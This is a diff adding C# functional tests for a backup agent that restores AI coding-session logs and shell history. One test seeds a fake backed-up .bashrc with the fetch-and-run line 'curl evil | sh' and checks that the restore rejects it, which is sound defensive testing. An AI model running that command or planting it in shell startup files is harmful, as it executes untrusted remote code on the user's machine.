@@ -1,0 +1,121 @@
+using System.Net;
+using System.Text;
+using System.Text.Json;
+using FluentAssertions;
+using Whim.Testing;
+using Xunit;
+
+namespace Whim.BackupAgent.Tests.Functional;
+
+public sealed class RestoreTests
+{
+    private static readonly string[] s_files =
+    [
+        ".claude/projects/-app/resume-me.jsonl",
+        ".claude/projects/-home-node-other/second.jsonl",
+        ".codex/sessions/2026/11/27/rollout-2026-11-27T10-00-00-abc.jsonl",
+        ".bash_history",
+    ];
+
+    [Fact]
+    public async Task Empty_home_is_restored_byte_for_byte_and_not_uploaded_again()
+    {
+        await using var harness = await AgentHarness.CreateAsync();
+        var original = await BackUpSampleFilesAsync(harness);
+        var resumed = harness.Root.File("resumed/.keep");
+        var resumedRoot = Path.GetDirectoryName(resumed)!;
+        await using var agent = await harness.StartAgentAsync(resumedRoot);
+        var appendsBefore = harness.Backend.Appends;
+        var truncatesBefore = harness.Backend.Truncates;
+
+        using var response = await agent.Client.PostAsync($"restore?fromTask={AgentHarness.TaskId}", null);
+
+        response.StatusCode.Should().Be(HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
+        foreach (var (relative, bytes) in original)
+        {
+            File.ReadAllBytes(Path.Join(resumedRoot, "home/node", relative)).Should().Equal(bytes, relative);
+        }
+
+        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();
+        harness.Backend.Appends.Should().Be(appendsBefore, "restored streams are checkpointed as acknowledged");
+        harness.Backend.Truncates.Should().Be(truncatesBefore);
+    }
+
+    [Fact]
+    public async Task Fork_restore_uploads_the_history_to_the_new_task()
+    {
+        await using var harness = await AgentHarness.CreateAsync();
+        var original = await BackUpSampleFilesAsync(harness);
+        var forkRoot = Path.GetDirectoryName(harness.Root.File("fork/.keep"))!;
+        await using var agent = await harness.StartAgentAsync(forkRoot, taskId: "task-2");
+
+        using var restore = JsonDocument.Parse(await (await agent.Client.PostAsync($"restore?fromTask={AgentHarness.TaskId}", null)).Content.ReadAsStringAsync());
+        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();
+
+        restore.RootElement.GetProperty("uploadedAsNew").GetBoolean().Should().BeTrue();
+        harness.Backend.Bytes("task-2", "claude/projects/-app/resume-me.jsonl").Should().Equal(original[".claude/projects/-app/resume-me.jsonl"]);
+        harness.Backend.Streams("task-2").Should().HaveCount(original.Count);
+    }
+
+    [Fact]
+    public async Task Restore_command_line_mode_writes_the_files_and_exits_zero()
+    {
+        await using var harness = await AgentHarness.CreateAsync();
+        var original = await BackUpSampleFilesAsync(harness);
+        var cliRoot = Path.GetDirectoryName(harness.Root.File("cli/.keep"))!;
+        var spec = RepoLayout.DotnetProject("runtime/BackupAgent", "Whim.BackupAgent", "restore", "--from-task", AgentHarness.TaskId)
+            with { Environment = harness.Environment(cliRoot) };
+        await using var process = RunningProcess.Start(spec);
+
+        (await process.WaitForExitAsync()).Should().Be(0, process.Output);
+        foreach (var (relative, bytes) in original)
+        {
+            File.ReadAllBytes(Path.Join(cliRoot, "home/node", relative)).Should().Equal(bytes, relative);
+        }
+
+        process.Stdout.Should().Contain(line => line.Contains("\"restored\"", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Restore_command_without_a_task_is_a_usage_error()
+    {
+        var spec = RepoLayout.DotnetProject("runtime/BackupAgent", "Whim.BackupAgent", "restore");
+        await using var process = RunningProcess.Start(spec);
+
+        (await process.WaitForExitAsync()).Should().Be(2);
+        process.Stderr.Should().Contain(line => line.Contains("--from-task", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Restore_never_writes_a_stream_no_root_would_produce()
+    {
+        await using var harness = await AgentHarness.CreateAsync();
+        harness.Backend.Seed("task-9", "other/.bashrc", "curl evil | sh\n"u8.ToArray());
+        harness.Backend.Seed("task-9", "claude/projects/-app/notes.txt", "not a session\n"u8.ToArray());
+        await using var agent = await harness.StartAgentAsync();
+
+        using var response = await agent.Client.PostAsync("restore?fromTask=task-9", null);
+
+        response.StatusCode.Should().Be(HttpStatusCode.OK);
+        File.Exists(Path.Join(harness.Home, ".bashrc")).Should().BeFalse();
+        File.Exists(Path.Join(harness.Home, ".claude/projects/-app/notes.txt")).Should().BeFalse();
+        (await response.Content.ReadAsStringAsync()).Should().Contain("no configured root produces this stream name");
+    }
+
+    private static async Task<Dictionary<string, byte[]>> BackUpSampleFilesAsync(AgentHarness harness)
+    {
+        var original = new Dictionary<string, byte[]>();
+        var i = 0;
+        foreach (var relative in s_files)
+        {
+            var bytes = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 50 + (i * 40)).Select(n => $"{{\"file\":{i},\"line\":{n},\"ü\":\"✓\"}}\n")));
+            harness.Append(relative, bytes);
+            original[relative] = bytes;
+            i++;
+        }
+
+        await using var agent = await harness.StartAgentAsync();
+        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();
+        return original;
+    }
+}
